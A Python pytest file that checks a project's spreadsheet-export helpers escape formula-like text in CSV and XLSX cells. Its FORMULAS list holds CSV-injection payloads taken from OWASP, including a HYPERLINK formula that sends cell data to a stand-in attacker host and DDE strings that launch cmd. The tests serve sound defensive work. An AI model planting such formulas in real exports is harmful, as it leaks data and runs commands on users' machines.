"""Spreadsheet cells (core.spreadsheets): formulas typed as text stay text, numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook

from leuchtfeuer.core.spreadsheets import csv_cell, csv_writer, xlsx_append

# Payloads from OWASP's "CSV Injection" page and the public write-ups it cites.
FORMULAS = [
    '=HYPERLINK("https://angreifer.example/?d="&A1,"Fehler: bitte klicken")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full-width forms, read as a formula start by East Asian spreadsheet settings
    "＋1",
    "－1+1",
    "＠SUM(A1)",
]
NOT_FORMULAS = [
    "Rückkehrertag",
    "1+2",
    "foo@example.org",
    "1-2",
    "19,00 %",
    "-12,50",
    "-1.234,5",
    "+3",
    "-3,5 %",
    "",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_cell_quotes_text_a_spreadsheet_would_run(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", NOT_FORMULAS)
def test_csv_cell_leaves_plain_text_and_numbers(text):
    assert csv_cell(text) == text


@pytest.mark.parametrize("value", [-3, -2.5, 0, None, date(2025, 1, 2)])
def test_csv_cell_leaves_values_that_are_not_text(value):
    assert csv_cell(value) == value


def test_csv_writer_escapes_every_cell_and_drops_control_characters():
    buffer = io.StringIO()
    writer = csv_writer(buffer, delimiter=";")
    writer.writerow(["=1+1", "-4,5", "Zeile\x0bumbruch\x01"])
    writer.writerows([["@A1", -7]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue()), delimiter=";"))
    assert rows == [["'=1+1", "-4,5", "Zeile\numbruch"], ["'@A1", "-7"]]


def test_xlsx_append_writes_text_as_text_and_numbers_as_numbers():
    workbook = Workbook()
    sheet = workbook.active
    xlsx_append(sheet, ["Titel", "Wert"])
    xlsx_append(sheet, [FORMULAS[0], -3.5, date(2025, 1, 2), "#N/A", "Zeile\x0bumbruch\x1f", None, "-2+3"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    row = load_workbook(io.BytesIO(buffer.getvalue())).active[2]
    assert [c.value for c in row[:2]] == [FORMULAS[0], -3.5]
    assert [c.data_type for c in row] == ["s", "n", "d", "s", "s", "n", "s"]  # no "f" (formula), no "e"
    assert row[0].quotePrefix and row[6].quotePrefix and not row[4].quotePrefix
    assert (row[3].value, row[4].value) == ("#N/A", "Zeile\numbruch")
    assert sheet["A1"].value == "Titel"  # appends below what is there, like sheet.append


def test_every_export_writes_through_the_safe_writers():
    """Contract: CSV, XLSX and PDF are written only through core.spreadsheets and
    core.documents, so a new export cannot forget the escaping and cleaning."""
    from pathlib import Path

    package = Path(__file__).resolve().parents[2]
    allowed = {
        "csv.writer(": {"core/spreadsheets.py", "participation/engine/pabulib.py"},  # .pb: a data format
        "DictWriter(": set(),
        ".write_pdf(": {"core/documents.py"},
    }
    found: dict[str, set[str]] = {pattern: set() for pattern in allowed}
    workbooks_without_safe_append = []
    for path in package.rglob("*.py"):
        name = path.relative_to(package).as_posix()
        if "/tests/" in name:
            continue
        source = path.read_text(encoding="utf-8")
        for pattern in allowed:
            if pattern in source:
                found[pattern].add(name)
        # Seed documents hold fixed example content written in code, no user text.
        if "Workbook(" in source and "xlsx_append" not in source and name != "knowledge/seed_documents.py":
            workbooks_without_safe_append.append(name)
    assert all(found[pattern] <= allowed[pattern] for pattern in allowed), found
    assert workbooks_without_safe_append == []
